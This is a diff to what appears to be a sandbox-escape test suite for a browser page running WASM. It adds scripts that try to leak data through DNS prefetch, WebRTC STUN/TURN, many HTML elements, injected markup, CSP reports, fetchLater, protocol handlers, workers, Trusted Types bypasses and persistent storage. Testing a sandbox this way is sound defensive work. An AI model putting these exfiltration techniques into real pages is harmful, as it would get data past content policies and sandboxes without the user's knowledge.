@@ -1,9 +1,12 @@
-import type { Target } from './python-attacks.ts';
+import type { Target } from './attack.ts';
+import { leakZone } from './name-server.ts';
 
 export interface PageAttack {
   readonly name: string;
   /** An expression that is a promise; run in the sealed page, as if an attacker had left both WASM and its worker. */
   readonly script: string;
+  /** What the walls around a page cannot stop alone: it rests on what is taken out of the page. */
+  readonly needsStrippedPage?: boolean;
 }
 
 /** Every way out of a page that we know, tried with the page's own rights and with a fresh frame's globals. */
@@ -60,6 +63,24 @@ export function pageAttacks({ hosts, tcpPort, udpPort, secretPath }: Target): re
       ),
     },
     {
+      name: 'names looked up',
+      script: `(async () => { ${fresh}
+        const name = () => Math.random().toString(36).slice(2) + '.${leakZone}';
+        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) { const link = document.createElement('link'); link.rel = rel; link.href = '//' + name(); document.head.append(link); }
+        const link = document.createElement('a'); link.href = 'http://' + name(); link.textContent = 'x'; document.body.append(link);
+        const meta = document.createElement('meta'); meta.httpEquiv = 'x-dns-prefetch-control'; meta.content = 'on'; document.head.append(meta);
+        try { await fresh.fetch('http://' + name(), { mode: 'no-cors' }); } catch {}
+        await new Promise((resolve) => setTimeout(resolve, 500)); })()`,
+    },
+    {
+      name: 'names looked up by WebRTC',
+      needsStrippedPage: true,
+      script: `(async () => { ${fresh}
+        const name = () => Math.random().toString(36).slice(2) + '.${leakZone}';
+        for (const urls of ['stun:' + name() + ':3478', 'turn:' + name() + ':3478', 'turn:' + name() + ':443?transport=tcp']) { try { const peer = new fresh.RTCPeerConnection({ iceServers: [{ urls, username: 'leak', credential: 'x' }] }); peer.createDataChannel('leak'); await peer.setLocalDescription(await peer.createOffer()); } catch {} }
+        await new Promise((resolve) => setTimeout(resolve, 2000)); })()`,
+    },
+    {
       name: 'CSS and fonts',
       script: forAll(
         `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(' + origin + '/leak) } @font-face { font-family: f; src: url(' + origin + '/font) } body { font-family: f }'); document.adoptedStyleSheets = [sheet]; document.body.append('text');`,
@@ -111,11 +132,45 @@ export function pageAttacks({ hosts, tcpPort, udpPort, secretPath }: Target): re
       ),
     },
     {
+      name: 'markup of every kind',
+      script: forAll(
+        `for (const [tag, name] of [['img', 'srcset'], ['video', 'poster'], ['input', 'src'], ['track', 'src'], ['source', 'src'], ['image', 'href'], ['body', 'background'], ['table', 'background'], ['portal', 'src'], ['fencedframe', 'src'], ['webview', 'src'], ['frame', 'src'], ['applet', 'archive'], ['base', 'href'], ['bgsound', 'src']]) { const node = document.createElement(tag); if (tag === 'input') node.type = 'image'; node.setAttribute(name, origin + '/leak'); document.body.append(node); } const svg = document.createElementNS('http://www.w3.org/2000/svg', 'image'); svg.setAttribute('href', origin + '/leak'); document.body.append(svg);`,
+      ),
+    },
+    {
+      name: 'markup as text',
+      script: forAll(
+        `for (const act of [() => { document.body.innerHTML = '<img src=' + origin + '/leak>'; }, () => document.write('<img src=' + origin + '/leak>'), () => fresh.document.write('<img src=' + origin + '/leak>'), () => document.body.insertAdjacentHTML('beforeend', '<iframe src=' + origin + '>'), () => document.body.append(new DOMParser().parseFromString('<img src=' + origin + '/leak>', 'text/html').body)]) { try { act(); } catch (error) { seen.push(error.name); } }`,
+      ),
+    },
+    {
+      name: 'a policy that reports',
+      script: forAll(
+        `const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy'; meta.content = "img-src 'none'; report-uri " + origin + '/leak; report-to leak'; document.head.append(meta); new fresh.Image().src = 'data:,'; fresh.reportError?.(new Error('leak'));`,
+      ),
+    },
+    { name: 'fetchLater', script: forAll(`fresh.fetchLater(origin + '/leak', { activateAfter: 0 });`) },
+    {
+      name: 'other programs',
+      script: `(async () => { ${fresh} for (const url of ['mailto:leak@localhost', 'ssh://localhost', 'tel:1', 'vscode://x', 'smb://localhost/x', 'ms-settings:x', 'intent://x']) { for (const act of [() => { location.href = url; }, () => fresh.open(url), () => { const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame); }]) { try { act(); } catch {} } } await new Promise((resolve) => setTimeout(resolve, 200)); })()`,
+    },
+    {
+      name: 'nested and shared workers',
+      script: `(async () => { ${fresh} const seen = []; for (const act of [() => new fresh.Worker('/kernel-worker.js'), () => new fresh.SharedWorker('/kernel-worker.js'), () => new fresh.SharedWorker('data:text/javascript,1'), () => new fresh.AudioContext().audioWorklet.addModule('/kernel-worker.js'), () => fresh.CSS.paintWorklet.addModule('/kernel-worker.js')]) { try { await act(); seen.push('made'); } catch (error) { seen.push(error.name); } } return seen.join(); })()`,
+    },
+    {
+      name: 'Trusted Types got round',
+      script: forAll(
+        `for (const act of [() => globalThis.trustedTypes.createPolicy('kernel', { createScriptURL: (url) => url }), () => fresh.trustedTypes.createPolicy('x', { createHTML: (x) => x }), () => new fresh.Function('return 1')(), () => fresh.eval('1'), () => setTimeout("fetch('" + origin + "')"), () => { const node = document.createElement('script'); node.text = "fetch('" + origin + "')"; document.body.append(node); }]) { try { seen.push(String(act())); } catch (error) { seen.push(error.name); } }`,
+      ),
+    },
+    {
       name: 'STUN',
       script: `(async () => { ${fresh} const made = []; for (const urls of ${peers}) { try { const peer = new fresh.RTCPeerConnection({ iceServers: [{ urls }] }); peer.createDataChannel('leak'); await peer.setLocalDescription(await peer.createOffer()); made.push(peer); } catch (error) { made.push(String(error)); } } await new Promise((resolve) => setTimeout(resolve, 2500)); return made.length; })()`,
     },
     {
       name: 'TURN',
+      needsStrippedPage: true,
       script: `(async () => { ${fresh} for (const urls of ${turns}) { try { const peer = new fresh.RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls, username: 'leak', credential: 'x' }] }); peer.createDataChannel('leak'); await peer.setLocalDescription(await peer.createOffer()); } catch {} } await new Promise((resolve) => setTimeout(resolve, 2500)); })()`,
     },
     {
@@ -149,7 +204,17 @@ export function pageAttacks({ hosts, tcpPort, udpPort, secretPath }: Target): re
     },
     {
       name: 'storage that stays',
-      script: `(async () => { ${fresh} try { fresh.localStorage.setItem('leak', 'x'); } catch {} try { const root = await fresh.navigator.storage.getDirectory(); await root.getFileHandle('leak', { create: true }); } catch {} try { fresh.indexedDB.open('leak'); } catch {} try { document.cookie = 'leak=x'; } catch {} })()`,
+      script: `(async () => { ${fresh} try { fresh.localStorage.setItem('leak', 'x'); } catch {} try { const root = await fresh.navigator.storage.getDirectory(); await root.getFileHandle('leak', { create: true }); } catch {} try { fresh.indexedDB.open('leak'); } catch {} try { await fresh.caches.open('leak'); } catch {} try { new fresh.BroadcastChannel('leak').postMessage('leak'); } catch {} try { await fresh.cookieStore.set('leak', 'x'); } catch {} try { document.cookie = 'leak=x'; } catch {} })()`,
     },
   ];
 }
+
+/** Run in a new page: what of \`storage that stays\` is still there. */
+export const residue = `(async () => { const frame = document.createElement('iframe'); document.body.append(frame); const fresh = frame.contentWindow; const left = [];
+  try { for (const { name } of await fresh.indexedDB.databases()) left.push('IndexedDB ' + name); } catch {}
+  try { for (const name of await fresh.caches.keys()) left.push('cache ' + name); } catch {}
+  try { for await (const [name] of await fresh.navigator.storage.getDirectory()) left.push('OPFS ' + name); } catch {}
+  try { if (fresh.localStorage.length > 0) left.push('localStorage'); } catch {}
+  try { if (document.cookie !== '') left.push('cookie'); } catch {}
+  try { for (const worker of await fresh.navigator.serviceWorker.getRegistrations()) left.push('service worker ' + worker.scope); } catch {}
+  return left; })()`;
